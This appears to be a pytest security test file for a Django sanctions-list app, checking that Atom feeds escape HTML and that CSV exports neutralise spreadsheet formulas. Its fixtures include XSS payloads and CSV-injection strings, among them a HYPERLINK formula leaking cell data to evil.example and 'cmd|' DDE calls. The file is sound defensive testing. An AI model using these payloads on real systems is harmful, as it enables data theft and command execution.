"""Hostile text on its way out: Atom feeds and CSV exports carry it as text, never as markup or a formula.

Names, titles and notes come from sources and editors. In a feed, a title is plain text and a
``<summary type="html">`` is HTML-escaped text, so a feed reader shows ``X <img onerror=...>`` instead of
running it. In a CSV, a cell that a spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``, tab,
carriage return, their full-width forms, spaces before one) starts with ``'``, on every ``?format=csv``
answer and on the designations page's download; numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
from html.parser import HTMLParser
from urllib.parse import urlencode
from xml.etree import ElementTree

import pytest
from django.urls import reverse

from allies.models import AlliedDesignation, AlliedEntry, PartyLink
from designations import exports
from designations.api.views import CsvExportMixin, CsvRenderer
from designations.models import DesignationEvent
from tests.factories import (
    AliasFactory,
    AuthorityFactory,
    CountryFactory,
    DesignationEventFactory,
    DesignationFactory,
    DesigneeCountryFactory,
    DesigneeFactory,
    ImportRunFactory,
    ProgramFactory,
    SourceDocumentFactory,
)
from tests.security.conftest import endpoint, endpoint_names

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


# --------------------------------------------------------------------------------------------------
# Atom feeds
# --------------------------------------------------------------------------------------------------
DESIGNEE_NAME = "X <img src=x onerror=alert(7401)>"
COUNTRY_NAME = "Qland </title><script>alert(7402)</script>"
PROGRAM_CODE = "EVIL<b onmouseover=alert(7403)>"
PROGRAM_NAME = "<iframe src=javascript:alert(7404)>"
DOCUMENT_TITLE = '<a href="javascript:alert(7405)">Release</a> &amp; notes'
CHANGED_TO = "<svg onload=alert(7406)>"


class _Html(HTMLParser):
    """The elements and the text of an HTML fragment, as a feed reader would read it."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.text: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append(tag)

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def hostile_feeds(db):
    """One designee tied to one country, listed under one program and amended; every text is markup."""
    country = CountryFactory(code="QX", name=COUNTRY_NAME)
    program = ProgramFactory(code=PROGRAM_CODE, name=PROGRAM_NAME)
    designee = DesigneeFactory(name=DESIGNEE_NAME)
    DesigneeCountryFactory(designee=designee, country=country)
    designation = DesignationFactory(designee=designee, program=program)
    document = SourceDocumentFactory(title=DOCUMENT_TITLE)
    DesignationEventFactory(designation=designation, source_document=document)
    DesignationEventFactory(
        designation=designation,
        kind=DesignationEvent.Kind.AMENDED,
        source_document=None,
        changes={"name": ["<i>old</i>", CHANGED_TO]},
    )
    return {"country": country, "program": program}


FEEDS = {
    "country": lambda world: reverse("designations:country_feed", kwargs={"code": world["country"].code}),
    "program": lambda world: reverse("programs:program_feed", kwargs={"code": world["program"].code}),
    "changes": lambda world: reverse("designations-api:changes-feed"),
}


@pytest.mark.parametrize("feed", list(FEEDS))
def test_feed_summaries_are_escaped_html_and_titles_plain_text(client, hostile_feeds, feed):
    response = client.get(FEEDS[feed](hostile_feeds))

    assert response.status_code == 200
    root = ElementTree.fromstring(response.content)
    texts = [root.find(f"{ATOM}title"), root.find(f"{ATOM}subtitle")]
    entries = root.findall(f"{ATOM}entry")
    assert entries
    summaries = []
    for entry in entries:
        texts.append(entry.find(f"{ATOM}title"))
        summary = entry.find(f"{ATOM}summary")
        assert summary.get("type") == "html"
        html = _Html(summary.text)
        assert html.elements == [], summary.text  # no element once a reader reads the HTML
        summaries.append("".join(html.text))
    for element in filter(None, texts):
        assert element.get("type", "text") == "text"  # plain text: shown as it is, never parsed
    titles = " ".join(element.text for element in texts if element is not None)
    summary_text = " ".join(summaries)
    assert f"{DESIGNEE_NAME} ({PROGRAM_CODE})" in titles or f"{DESIGNEE_NAME} [{PROGRAM_CODE}]" in titles
    if feed == "changes":  # each change and its source, arrived whole, as text
        assert f"name: <i>old</i> -> {CHANGED_TO}" in summary_text
        assert f"source: {DOCUMENT_TITLE}" in summary_text
    else:  # who was listed under what, and the source
        assert f"{DESIGNEE_NAME} (individual) listed under {PROGRAM_CODE}" in summary_text
        assert f"Source: {DOCUMENT_TITLE}." in summary_text
    if feed == "country":
        assert COUNTRY_NAME in titles
    if feed == "program":
        assert PROGRAM_NAME in titles


# --------------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
HOSTILE = {
    "designee": FORMULA,
    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program_code": "+PROG",
    "program_name": "-2+3+cmd|' /C calc'!A0",
    "authority_name": "\t=1+1",
    "country_name": "\uff1d1+1",  # a full-width equals sign
    "document_title": "\r=cmd",
    "note": "  =1+2",  # spaces before the formula
    "raw_sha256": "-0-",  # OFAC's "no value", which a spreadsheet reads as a formula too
    "regime": '=HYPERLINK("http://x")',
}


def read_cells(response) -> list[list[str]]:
    content = response.getvalue() if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection"), full-width forms included.
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


@pytest.fixture
def hostile_rows(db):
    """One row of every exported table, each with a text a spreadsheet would run as a formula."""
    country = CountryFactory(code="QY", name=HOSTILE["country_name"])
    authority = AuthorityFactory(name=HOSTILE["authority_name"])
    program = ProgramFactory(code=HOSTILE["program_code"], name=HOSTILE["program_name"], is_human_rights=True)
    program.authorities.add(authority)
    designee = DesigneeFactory(name=HOSTILE["designee"])
    AliasFactory(designee=designee, name=HOSTILE["alias"])
    DesigneeCountryFactory(designee=designee, country=country)
    designation = DesignationFactory(designee=designee, program=program, authority=authority)
    document = SourceDocumentFactory(title=HOSTILE["document_title"])
    DesignationEventFactory(designation=designation, source_document=document, note=HOSTILE["note"])
    ImportRunFactory(raw_sha256=HOSTILE["raw_sha256"])
    entry = AlliedEntry.objects.create(
        publisher="uk", list_slug="uk-sanctions-list", source_uid="GHR0001", source="test", kind="individual"
    )
    AlliedDesignation.objects.create(entry=entry, regime=HOSTILE["regime"], regime_code=HOSTILE["regime"])
    PartyLink.objects.create(designee=designee, entry=entry, state=PartyLink.State.CONFIRMED)


# Query strings the CSV endpoints need besides format=csv (the others need none).
CSV_QUERIES = {
    "designations-api:changes": {"changed_since": "2000-01-01T00:00:00Z"},
    "designations-api:stats": {"group_by": "program,country"},
}


def csv_endpoints() -> list[tuple[str, str]]:
    """Every route answering ``?format=csv`` (lists and details), as (name, path with query)."""
    found = []
    for name in endpoint_names():
        target = endpoint(name)
        if target.view_class is not None and issubclass(target.view_class, CsvExportMixin):
            query = urlencode({"format": "csv", **CSV_QUERIES.get(name, {})})
            found.append((name, f"{target.path}?{query}"))
    return found


def test_every_csv_export_quotes_cells_that_would_start_a_formula(client, hostile_rows):
    endpoints = csv_endpoints()
    assert {name for name, _ in endpoints} >= {
        "programs-api:authority-list",
        "programs-api:authority-detail",
        "programs-api:program-list",
        "programs-api:program-detail",
        "designations-api:country-list",
        "designations-api:country-detail",
        "designations-api:designee-list",
        "designations-api:designee-detail",
        "designations-api:designation-list",
        "designations-api:designation-detail",
        "designations-api:sourcedocument-list",
        "designations-api:sourcedocument-detail",
        "designations-api:changes",
        "designations-api:stats",
        "importers-api:importrun-list",
        "importers-api:importrun-detail",
    }
    problems = []
    for name, path in endpoints:
        response = client.get(path)
        assert response.status_code == 200, (name, response.content[:300])
        assert response["Content-Type"].startswith("text/csv"), name
        cells = [cell for row in read_cells(response)[1:] for cell in row]
        quoted = [cell for cell in cells if cell.startswith("'") and starts_a_formula(cell[1:])]
        problems += [(name, cell) for cell in cells if starts_a_formula(cell)]
        if not quoted:
            problems.append((name, "no hostile cell reached this export"))
        problems += [(name, cell) for cell in quoted if cell[1:] not in HOSTILE.values()]
    assert problems == []


def test_the_designations_page_downloads_quoted_cells(client, hostile_rows):
    page = client.get(reverse("designations:designation_list"), {"filtered": "1"})

    rows = {row[2]: row for row in read_cells(client.get(page.context["csv_url"]))[1:]}

    assert list(rows) == [f"'{FORMULA}"]  # designee_name
    assert rows[f"'{FORMULA}"][5] == "'+PROG"  # program


def test_stats_csv_quotes_group_values_and_keeps_counts_numeric(client, hostile_rows):
    response = client.get(reverse("designations-api:stats"), {"group_by": "program", "format": "csv"})

    assert read_cells(response) == [["program", "count"], ["'+PROG", "1"]]


def test_csv_cells_keep_numbers_and_quote_text_that_starts_a_formula():
    assert [exports.csv_value(value) for value in (-5, -1.5, decimal.Decimal("-0.25"), 0, True)] == [
        "-5",
        "-1.5",
        "-0.25",
        "0",
        "true",
    ]
    assert [exports.csv_value(value) for value in ("-0-", "-5", "@a", "+1", "=1", "\tx", "\rx", " =1", "\uff20a")] == [
        "'-0-",
        "'-5",
        "'@a",
        "'+1",
        "'=1",
        "'\tx",
        "'\rx",
        "' =1",
        "'\uff20a",
    ]
    # Only a cell's start counts: text inside, plain text and dates are written as they are.
    assert exports.csv_value("CHEN, Quanguo - a=b") == "CHEN, Quanguo - a=b"
    assert exports.csv_value(datetime.date(2024, 7, 2)) == "2024-07-02"
    assert exports.csv_value(["-0-", "A"]) == "'-0-|A"
    assert exports.csv_value(["A", "=B"]) == "A|=B"


def test_the_csv_renderer_quotes_cells_too():
    body = CsvRenderer().render([{"name": "=1+1", "count": -3}]).decode()

    assert list(csv.reader(io.StringIO(body))) == [["name", "count"], ["'=1+1", "-3"]]
